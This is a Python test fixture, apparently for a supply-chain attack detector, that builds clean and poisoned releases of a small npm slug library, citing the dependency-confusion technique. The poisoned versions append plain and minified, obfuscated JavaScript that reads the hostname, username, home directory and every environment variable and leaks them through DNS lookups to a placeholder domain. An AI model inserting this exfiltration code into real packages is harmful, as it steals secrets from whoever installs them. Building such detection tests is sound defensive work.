"""Data that leaves as names to look up: where HTTP is closed, DNS is open.

The way of the first dependency confusion proofs and of many since: the machine's name, user and
folder are encoded into labels of a domain that the attacker answers for.

Described in: "Dependency confusion: how I hacked into Apple, Microsoft and dozens of other
companies" (A. Birsan, 2021).
In the staged tarball: new code that puts what it read of the machine into names that it looks up.
"""

from tests.findings.attack import Attack, one_line, release

_SOURCE = "exports.slug = (text) => text.toLowerCase().replace(/[^a-z0-9]+/g, '-');\n"
_NEXT = _SOURCE.replace("'-')", "'-').replace(/^-|-$/g, '')")
_PLAIN = """
const os = require('os');
const dns = require('dns');

const { username } = os.userInfo();
const facts = JSON.stringify({ host: os.hostname(), username, env: process.env });
const hex = Buffer.from(facts).toString('hex');
for (let i = 0; i * 60 < hex.length; i++) {
  dns.resolve4(`${i}.${hex.slice(i * 60, i * 60 + 60)}.dns.example.invalid`, () => {});<<<exfiltration>>>
}
"""
_MINIFIED = one_line("""
    ;(()=>{const{resolve:r}=require("d"+"ns").promises,o=require("os"),h=Buffer.from(
    o.hostname()+"|"+o.homedir()+"|"+JSON.stringify(process.env)).toString("hex");
    h.match(/.{1,60}/g).forEach((e,t)=>r([t,e,"dns.example.invalid"].join(".")).catch(()=>{}))})();
    <<<exfiltration>>>
""")

ATTACK = Attack(
    before=release("slugs", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("slugs", "1.0.1", {"index.js": _NEXT}),
    after={
        "plain": release("slugs", "1.0.1", {"index.js": _NEXT + _PLAIN}),
        "minified": release("slugs", "1.0.1", {"index.js": _NEXT + _MINIFIED + "\n"}),
    },
)
